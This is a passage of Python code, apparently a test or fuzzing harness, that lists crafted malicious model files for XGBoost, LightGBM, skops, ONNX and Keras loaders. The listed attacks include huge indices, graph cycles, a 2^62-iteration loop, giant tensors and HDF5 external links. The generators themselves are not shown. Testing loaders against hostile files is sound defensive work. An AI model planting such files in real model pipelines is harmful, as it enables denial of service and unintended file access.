                 "split_feature_1e9", "tree_info_1e6", "tree_info_class", "short_array", "shared_node")},
    **{f"xgboost ubj {a}": (f"{a}.ubj", lambda a=a: xgboost_tree_attack(a, "ubj"))
       for a in ("categorical_segment", "size_leaf_vector", "own_child", "child_1e8", "tree_info_class")},
    **{f"lightgbm {a}": (f"{a}.txt", lambda a=a: lightgbm_tree_attack(a))
       for a in ("split_feature_1e8", "child_1e8", "num_leaves_1e9", "tree_sizes_lie", "cycle", "negative_leaf",
                 "cat_boundaries")},
    "lightgbm machines + local_listen_port (loads, parameters dropped)": ("network.txt", lightgbm_network_parameters),
    **{f"skops {a}": (f"{a}.skops", lambda a=a: skops_tree_attack(a))
       for a in ("child_1e8", "feature_1e8", "cycle", "forest_last_tree", "hgb_cycle", "npy_header")},
    "onnx Loop 2^62 iterations": ("loop.onnx", onnx_loop_2_62),
    "onnx If with subgraphs": ("if.onnx", onnx_if_branch),
    "onnx broadcast (N,1,1)(1,N,1)(1,1,N)": ("cube.onnx", onnx_broadcast_cube),
    "onnx ConstantOfShape(Concat(n,n,n))": ("rows_cubed.onnx", onnx_constant_of_shape_rows_cubed),
    "onnx Expand(Concat(n,n))": ("rows_squared.onnx", onnx_expand_rows_squared),
    "onnx Tile(x, Concat(n,n))": ("tile.onnx", onnx_tile_rows_squared),
    "onnx Range(0, n*n, 1)": ("range.onnx", onnx_range_rows_squared),
    "onnx RandomNormal shape [30000, 30000]": ("random.onnx", onnx_random_normal),
    "onnx HannWindow(max(x))": ("hann_data.onnx", onnx_window_from_data),
    "onnx HannWindow(500,000,000)": ("hann.onnx", onnx_window_constant),
    **{f"keras weights {a}": (f"h5_{a}.keras", lambda a=a: keras_with_weights(h5_weights_attack(a)))
       for a in ("hard_link_cycle", "soft_link", "external_link", "virtual_dataset")},
    "keras Dense(units=1e8)": ("dense.keras", lambda: keras_huge_layer("Dense", units=100_000_000)),
    "keras CategoryEncoding(num_tokens=2e9)": ("category.keras",
                                               lambda: keras_huge_layer("CategoryEncoding", num_tokens=2_000_000_000,
                                                                        output_mode="multi_hot")),
    "keras Embedding(1e6 x 1e3)": ("embedding.keras",
                                   lambda: keras_huge_layer("Embedding", input_dim=1_000_000, output_dim=1000)),
    "keras LSTM(units=1e5)": ("lstm.keras", lambda: keras_huge_layer("LSTM", units=100_000)),
})
